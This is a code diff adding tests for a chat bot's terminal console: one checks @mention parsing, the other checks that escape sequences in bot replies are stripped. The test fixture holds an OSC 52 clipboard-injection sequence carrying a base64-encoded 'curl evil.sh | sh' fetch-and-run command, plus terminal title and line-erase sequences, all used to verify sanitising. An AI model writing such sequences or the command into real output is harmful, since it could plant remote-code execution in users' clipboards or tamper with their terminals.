@@ -37,6 +37,26 @@ def test_group_mode_lines_name_the_speaker_and_may_address_the_bot() -> None:
     assert first.message_id != follow.message_id
 
 
+def test_only_a_whole_word_mention_calls_the_bot() -> None:
+    ch, _ = console(group=True)
+    for line in ("写信给 bob@qunbot.io 吧", "@qunbotfan 你好", "email@qunbot"):
+        got = ch.parse_line(line)
+        assert got is not None and not got.mentions_bot and got.text == line  # it was mangled: "bob .io"
+    called = ch.parse_line("你好 @QunBot，在吗")
+    assert called is not None and called.mentions_bot and called.text == "你好 ，在吗"
+
+
+async def test_no_control_sequence_the_bot_writes_reaches_the_terminal() -> None:
+    """A reply quoting anyone (a search result) could set the window title, write the clipboard (OSC 52)
+    or erase lines."""
+    ch, out = console()
+    sneaky = "天气晴\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x07\x1b[1A\x1b[2K\u009b2J\tok"
+    await ch.send(OutgoingMessage(key="k", chat=ch.chat, text=sneaky))
+    await ch.stream_delta(ch.chat, "r", "\x1b[2J清屏")
+    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue() and "\u009b" not in out.getvalue()
+    assert "天气晴]52;c;Y3VybCBldmlsLnNoIHwgc2g=]0;pwned[1A[2K2J\tok" in out.getvalue()
+
+
 def test_private_mode_lines_are_the_users_own() -> None:
     ch, _ = console()
     msg = ch.parse_line("小明: hello")
